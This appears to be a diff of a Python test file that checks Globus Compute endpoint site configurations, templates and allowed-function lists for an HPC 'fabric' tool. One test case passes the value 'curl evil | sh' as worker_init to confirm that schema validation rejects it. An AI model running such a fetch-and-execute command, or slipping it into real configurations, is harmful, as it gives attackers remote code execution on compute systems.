@@ -1,18 +1,34 @@
-"""Site definitions: both schemas (the fabric's and Globus Compute's own loader), templated
-values, and the batch scripts Parsl renders for PBS Pro and Slurm model-server jobs."""
+"""Site definitions: both schemas (the fabric's, and Globus Compute 4.x's read the way
+``globus-compute-endpoint start`` reads an endpoint directory), the user-endpoint template and its
+schema (also through the real ``render-user-config`` command), templated values, and the batch
+scripts Parsl renders for PBS Pro and Slurm model-server jobs."""
 
 from __future__ import annotations
 
 import argparse
+import json
+import os
 import shutil
+import subprocess
+import sys
 from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
 
 import pytest
 from globus_compute_endpoint.endpoint.config.utils import load_config_yaml
 
 from fabric.cli import sites as cli_sites
 from fabric.errors import InvalidSiteConfig
-from fabric.sites import ENDPOINTS_DIR, list_sites, load_site, render_endpoint_config
+from fabric.sites import (
+    ENDPOINT_FILES,
+    ENDPOINTS_DIR,
+    list_sites,
+    load_site,
+    render_endpoint_config,
+    render_endpoint_files,
+)
+from fabric.wire.functions import NAMES
 
 UUID1 = "0b6e5c4a-0f5c-4e5b-9f0d-000000000001"
 UUID2 = "0b6e5c4a-0f5c-4e5b-9f0d-000000000002"
@@ -25,7 +41,9 @@ VALUES = {
     "aurora": {"account": "MyProj", "venv": "/soft/fab/venv", "policy_client_id": UUID1},
     "slurm-cluster": {"partition": "gpu", "account": "abc", "venv": "/opt/fab",
                       "shared_dir": "/shared/lab", "policy_client_id": UUID1},
+    "local-slurm": {},
 }
+GCE = str(Path(sys.executable).parent / "globus-compute-endpoint")
 MINE = sorted(VALUES)
 
 
@@ -33,31 +51,145 @@ def test_every_site_is_listed() -> None:
     assert set(MINE) <= set(list_sites())
 
 
+def write(name: str | Path, folder: Path, values: dict[str, str] | None = None) -> Path:
+    """Render a site's endpoint files into ``folder`` (as ``fabric site check --write``)."""
+    _, files = render_endpoint_files(name, values if values is not None else
+                                     VALUES.get(str(name), {}))
+    cli_sites.write_endpoint_files(files, folder)
+    return folder
+
+
 @pytest.mark.parametrize("name", MINE)
-def test_site_loads_with_both_schemas(name: str) -> None:
+def test_site_loads_with_both_schemas(name: str, tmp_path: Path) -> None:
+    """Every shipped site, read the way `globus-compute-endpoint start` reads it: the manager
+    config without an engine, the engine from the template rendered with the schema."""
+    from globus_compute_endpoint.endpoint.config import CoreEndpointConfig
+
     site, text = render_endpoint_config(name, VALUES[name], strict=True)
     assert site.name == name and site.unset_values == []
-    config = load_config_yaml(text)  # Globus Compute's own loader: unknown keys are errors
-    assert type(config.engine).__name__ == "GlobusComputeEngine"
+    manager, user = cli_sites.load_endpoint_dir(write(name, tmp_path / name))
+    assert isinstance(manager, CoreEndpointConfig) and "\nengine:" not in text
+    assert manager.allowed_functions is None  # nothing registered yet: check warns
+    assert manager.display_name and manager.email is None
+    engine = user.engine
+    assert type(engine).__name__ == "GlobusComputeEngine"
+    assert engine.executor.max_workers_per_node == site.max_request_workers
     # Workers unpickle no caller data unless the site runs user functions (pickled arguments).
-    allowed = {t.__name__ for t in config.engine.serde.allowed_deserializer_types}
+    allowed = {t.__name__ for t in engine.serde.allowed_deserializer_types}
     assert allowed == {"DillCode", "JSONData"} | (
         {"DillDataBase64"} if site.allow_user_functions else set())
-    if name != "local":
+    # Request workers learn their site from the rendered worker_init.
+    assert f"export FABRIC_SITE={(ENDPOINTS_DIR / name).resolve()}" in \
+        engine.executor.provider.worker_init
+    if name not in ("local", "local-slurm"):
         assert site.policy is not None and site.allow_user_functions is False
-        assert config.allowed_functions is None  # nothing registered yet: check warns
-        # Request workers learn their site from the rendered worker_init.
-        assert f"export FABRIC_SITE={(ENDPOINTS_DIR / name).resolve()}" in text
+    engine.shutdown()
 
 
-def test_registered_functions_fill_allowed_functions(tmp_path: Path) -> None:
+def test_start_refuses_an_engine_in_config_yaml(tmp_path: Path) -> None:
+    """The real `globus-compute-endpoint start` refuses the pre-4.10 shape (engine in
+    config.yaml) before it registers anything, and so does `fabric site check`."""
+    ep = write("local", tmp_path / "old")
+    (ep / "config.yaml").write_text("display_name: old\nengine:\n  type: ThreadPoolEngine\n")
+    with pytest.raises(InvalidSiteConfig, match="contains an `engine` field"):
+        cli_sites.load_endpoint_dir(ep)
+    env = {**os.environ, "GLOBUS_COMPUTE_USER_DIR": str(tmp_path)}
+    run = subprocess.run([GCE, "start", "old"], env=env, capture_output=True, text=True,
+                         timeout=120)
+    assert run.returncode != 0
+    assert "contains an `engine` field; endpoint will not start" in run.stdout + run.stderr
+
+
+@pytest.mark.parametrize(("opts", "workers", "ok"), [
+    ({}, 8, True), ({"request_workers": 2}, 2, True), ({"request_workers": 9}, None, False),
+    ({"worker_init": "curl evil | sh"}, None, False),
+])
+def test_render_user_config_command(tmp_path: Path, opts: dict[str, Any], workers: int | None,
+                                    ok: bool) -> None:
+    """Globus Compute's own `render-user-config` renders the template with the submitter's
+    values validated against the schema: only request_workers, up to the site's maximum."""
+    ep = write("polaris", tmp_path / "polaris")
+    (tmp_path / "opts.json").write_text(json.dumps(opts))
+    run = subprocess.run([GCE, "render-user-config", "-t", str(ep / ENDPOINT_FILES[1]),
+                          "-s", str(ep / ENDPOINT_FILES[2]), "-o", str(tmp_path / "opts.json")],
+                         capture_output=True, text=True, timeout=120)
+    assert (run.returncode == 0) is ok, run.stdout + run.stderr
+    if ok:
+        import yaml
+
+        rendered = yaml.safe_load(run.stdout.split("\n", 1)[1])  # after the "> Rendered" line
+        assert rendered["engine"]["max_workers_per_node"] == workers
+        assert rendered["engine"]["provider"]["worker_init"].startswith(
+            "module use /soft/modulefiles; module load conda; source /soft/fab/venv/bin")
+
+
+def test_local_site_runs_the_templates_engine(tmp_path: Path,
+                                             monkeypatch: pytest.MonkeyPatch) -> None:
+    """The embedded local site's engine (fabric.endpoint.site builds it) is the one the local
+    site's user_config_template.yaml.j2 renders: same engine type, workers, address, strategy
+    and provider. What differs is only how its workers are told their site: the site process
+    exports FABRIC_SITE itself (the template's worker_init does it for a Globus endpoint), and
+    the site process, not the engine, refuses pickled data for data-only functions."""
+    import globus_compute_endpoint.engines as engines
+
+    from fabric.endpoint import site as site_mod
+
+    seen: dict[str, Any] = {}
+
+    class Capture:
+        def __init__(self, **kwargs: Any) -> None:
+            seen.update(kwargs)
+
+        def start(self, **kwargs: Any) -> None:
+            seen["started"] = kwargs
+
+    with monkeypatch.context() as m:
+        m.setattr(engines, "GlobusComputeEngine", Capture)
+        for var in ("PATH", site_mod.SITE_ENV, site_mod.STATE_DIR_ENV):
+            m.setenv(var, os.environ.get(var, ""))
+        fake = SimpleNamespace(site=load_site("local"), site_ref="local", state_dir=tmp_path,
+                               endpoint_id="e")
+        site_mod.SiteProcess._start_engine(fake)  # type: ignore[arg-type]
+    _, user = cli_sites.load_endpoint_dir(write("local", tmp_path / "ep"))
+    engine, provider = user.engine, user.engine.executor.provider
+    assert type(engine).__name__ == "GlobusComputeEngine"
+    assert seen["max_workers_per_node"] == engine.executor.max_workers_per_node == 4
+    assert seen["address"] == engine.executor.address == "127.0.0.1"
+    assert seen["job_status_kwargs"] == {"strategy_period": 0.5, "max_idletime": 3600.0}
+    built = engine._job_status_kwargs  # what the engine's poller will start with
+    assert {k: built[k] for k in seen["job_status_kwargs"]} == seen["job_status_kwargs"]
+    mine = seen["provider"]
+    assert type(mine) is type(provider)
+    for attr in ("init_blocks", "min_blocks", "max_blocks"):
+        assert getattr(mine, attr) == getattr(provider, attr), attr
+    engine.shutdown()
+
+
+def test_allowed_functions_come_from_the_one_list(tmp_path: Path) -> None:
+    """allowed_functions lists exactly the registered ids of fabric.wire.functions' names; an
+    id under another name is an error, a missing name a warning."""
     folder = tmp_path / "polaris"
     shutil.copytree(ENDPOINTS_DIR / "polaris", folder)
-    text = (folder / "fabric.yaml").read_text().replace(
-        "function_ids: {}", f"function_ids: {{run_request: {UUID1}, poll_stream: {UUID2}}}")
-    (folder / "fabric.yaml").write_text(text)
+    text = (folder / "fabric.yaml").read_text()
+    ids = {n: f"0b6e5c4a-0f5c-4e5b-9f0d-{i:012d}" for i, n in enumerate(sorted(NAMES))}
+    (folder / "fabric.yaml").write_text(text.replace("function_ids: {}",
+                                                     f"function_ids: {json.dumps(ids)}"))
+    manager, _ = cli_sites.load_endpoint_dir(write(folder, tmp_path / "ep", VALUES["polaris"]))
+    assert manager.allowed_functions == tuple(sorted(ids.values()))
+    assert "run_shard" in ids  # campaign shards are allowed where allowed_functions is set
+    assert not any("function_ids" in w for w in cli_sites.check_site(
+        str(folder), VALUES["polaris"]).warnings)
+    partial = {"run_request": UUID1, "poll_stream": UUID2}
+    (folder / "fabric.yaml").write_text(text.replace("function_ids: {}",
+                                                     f"function_ids: {json.dumps(partial)}"))
     _, rendered = render_endpoint_config(folder, VALUES["polaris"])
     assert load_config_yaml(rendered).allowed_functions == (UUID1, UUID2)
+    assert any("function_ids lacks" in w and "run_shard" in w
+               for w in cli_sites.check_site(str(folder), VALUES["polaris"]).warnings)
+    (folder / "fabric.yaml").write_text(text.replace("function_ids: {}",
+                                                     f"function_ids: {{bogus: {UUID1}}}"))
+    with pytest.raises(InvalidSiteConfig, match=r"names \['bogus'\]: not fabric endpoint"):
+        render_endpoint_config(folder, VALUES["polaris"])
 
 
 def test_client_side_load_leaves_placeholders() -> None:
@@ -156,4 +288,18 @@ def test_cli(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert args.func(args) == 0
     out = capsys.readouterr().out
     assert "config.yaml OK (Globus Compute loader" in out and "#SBATCH --gpus-per-node=4" in out
-    load_config_yaml((tmp_path / "config.yaml").read_text())
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(ENDPOINT_FILES)
+    cli_sites.load_endpoint_dir(tmp_path)
+
+
+README_SITE_CHECK = (  # the README's line (docs: every value polaris requires, given)
+    "fabric site check polaris --set account=MYPROJ --set venv=/soft/fabric/venv "
+    "--set policy_client_id=00000000-0000-0000-0000-000000000000 "
+    "--set users_group=00000000-0000-0000-0000-000000000000")
+
+
+def test_readme_site_check_command_works_as_written(capsys: pytest.CaptureFixture[str]) -> None:
+    from fabric.cli.main import main
+
+    assert main(README_SITE_CHECK.split()[1:]) == 0
+    assert "user_config_template.yaml.j2 OK" in capsys.readouterr().out
